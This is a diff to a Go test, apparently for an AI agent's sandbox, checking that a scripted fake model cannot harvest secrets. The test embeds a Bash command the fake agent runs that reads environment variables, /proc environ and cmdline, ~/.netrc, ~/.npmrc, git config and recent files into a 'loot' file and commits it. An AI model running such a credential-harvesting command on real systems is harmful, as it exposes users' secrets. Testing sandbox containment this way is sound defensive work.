@@ -17,6 +17,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/klauspost/compress/zstd"
 	"github.com/redis/go-redis/v9"
@@ -29,6 +30,7 @@ import (
 // nor that of its repository's set-up nor that of a registry.
 func TestSecretsOfACollectingAgent(t *testing.T) {
 	t.Parallel()
+	begun := time.Now().Unix()
 	w := newWorld(t)
 	if w.env["ERRAND_SANDBOX"] == "none" {
 		t.Fatal("bubblewrap does not work here, and outside a sandbox root can read everything")
@@ -48,9 +50,10 @@ channels:
 		t.Fatal(err)
 	}
 	collect := `{ cat ~/installed; env; set; cat /proc/*/environ /proc/*/cmdline; ls -l /proc/*/fd; git config --list; cat .git/config ~/.netrc ~/.npmrc ~/.gitconfig
-		find / -xdev -type f -newermt yesterday -size -200k -not -path '/proc/*' -not -path '/sys/*' -not -path '/usr/*' -not -name '*.go' -print0 | head -z -n 3000 | xargs -0 cat | head -c 6M
+		find / -xdev -type f -newermt @%d -size -200k -not -path '/proc/*' -not -path '/sys/*' -not -path '/usr/*' -print0 | head -z -n 3000 | xargs -0 cat | head -c 6M
 		curl -s --max-time 5 -k https://npm.corp.example/-/whoami; curl -s --max-time 5 "$ANTHROPIC_BASE_URL/v1/models"; } >loot 2>/dev/null
 		grep -c . loot; grep -q installed loot && echo collec''ted; git add -f loot; git commit -qm 'Collect'; strings loot | tail -c 20000`
+	collect = fmt.Sprintf(collect, begun) // older files are not of this test: a checkout holds its secrets, too
 	w.model.Answer("collect",
 		modelfake.Turn{Tools: []modelfake.ToolCall{{Name: "Bash", Input: map[string]string{"command": collect}}}},
 		modelfake.Turn{Text: "Collected."})
